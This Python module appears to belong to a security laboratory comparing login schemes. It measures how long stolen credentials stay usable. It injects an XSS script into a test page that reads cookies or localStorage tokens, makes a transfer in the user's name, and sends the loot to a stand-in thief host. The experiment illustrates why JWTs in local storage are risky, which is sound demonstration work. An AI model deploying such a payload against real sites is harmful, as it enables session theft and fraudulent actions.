"""Row 11: a script that got into the page, what it can take, and how long it is of use."""

from __future__ import annotations

import time
from typing import TYPE_CHECKING
from urllib.parse import parse_qs, quote

from ..contenders import STATELESS
from ..contenders.application import transfers
from ..elsewhere import elsewhere
from .experiment import Chart, Experiment, Measured, Part, Value, Verdict, check_left

if TYPE_CHECKING:
    from ..laboratory import Laboratory
    from ..site import Site

LIFETIME = 8.0
"""Seconds that a login lasts here. In life it is hours or days."""

SCRIPT = """<script>
addEventListener("load", () => setTimeout(async () => {{
  const found = document.cookie || JSON.stringify({{ ...localStorage }})
  await ask("/transfer", new URLSearchParams({{ recipient: "thief" }}))
  new Image().src = "{url}/loot?found=" + encodeURIComponent(found)
}}, 200))
</script>"""

TOOK = "the script took the login with it"
ACTED = "the script acted while the page was open"
ELSEWHERE = "the thief is logged in on a machine of theirs"
AFTER = "still so after the owner logged out"
SECONDS = "seconds that the loot was of use"


def measure(laboratory: Laboratory) -> Measured:
    """The thief tries on another machine what the script sent, until it is refused."""

    def one(name: str) -> dict[str, Value]:
        with laboratory.site(name, absolute=LIFETIME) as site, laboratory.tab(site) as tab, elsewhere() as thief:
            logged_in = time.monotonic()
            tab.log_in()
            tab.page.goto(f"{site.url}/?hello={quote(SCRIPT.format(url=thief.other_site))}")
            while not thief.heard and time.monotonic() < logged_in + LIFETIME:
                tab.page.wait_for_timeout(50)
            began = time.monotonic()
            check_left(logged_in + LIFETIME - began, LIFETIME)
            [loot] = parse_qs(thief.heard[0]).get("found", [""])
            taken = _token(loot)
            values: dict[str, Value] = {
                TOOK: taken is not None,
                ACTED: ("ada", "thief") in transfers(site.settings.users),
                ELSEWHERE: _is_of_use(site, taken),
            }
            tab.page.goto(site.url)
            tab.log_out()
            values[AFTER] = _is_of_use(site, taken)
            while taken and _is_of_use(site, taken):
                time.sleep(0.05)
            return values | {SECONDS: round(time.monotonic() - began, 2) if values[ELSEWHERE] else 0.0}

    return laboratory.each(one)


def _token(loot: str) -> tuple[str, str] | None:
    """The header that the loot makes; None if there is nothing in it."""
    if loot.startswith("{"):
        token = loot.partition('"token":"')[2].partition('"')[0]
        return ("Authorization", f"Bearer {token}") if token else None
    return ("Cookie", loot) if loot else None


def _is_of_use(site: Site, taken: tuple[str, str] | None) -> bool:
    if taken is None:
        return False
    with site.stranger() as machine:
        answer = machine.get("/me", headers=dict([taken]))
    return bool(answer.json()["user"])


def judge(measured: Measured) -> Verdict:
    """Stolen is what works elsewhere."""
    stolen = [name for name, values in measured.items() if values[ELSEWHERE]]
    acted = [name for name, values in measured.items() if values[ACTED]]
    told = (
        ", ".join(f"{name} for {values[SECONDS]} s" for name, values in measured.items() if values[ELSEWHERE])
        or "nothing"
    )
    return Verdict(
        "session" not in stolen and any(name in stolen for name in STATELESS),
        f"Of logins of {LIFETIME:g} s the thief could use on a machine of theirs, though the owner logged out: {told}. "
        f"As long as the page was open the script acted in the user's name with {len(acted)} of {len(measured)}: an "
        "injected script is a disaster with any of them, and with what it can read it outlives the page.",
        [name for name in measured if name not in stolen],
    )


def charts(measured: Measured) -> list[Chart]:
    """How long the loot was of use."""
    series = {name: [(0.0, float(values[SECONDS] or 0))] for name, values in measured.items()}
    return [Chart("timeline", "Of use to the thief", "seconds", series, limits={"the login's lifetime": LIFETIME})]


THEFT = Experiment(
    name="theft",
    part=Part.DRAWBACK,
    claim="A JWT in local storage is taken by any script that gets into the page.",
    done="The page has a hole, and a script is injected: in a real Chromium it reads what it can, acts in the user's "
    "name, and sends the loot to the thief, who tries it elsewhere, also after the owner has logged out.",
    measure=measure,
    judge=judge,
    charts=charts,
    needs=("chromium",),
)
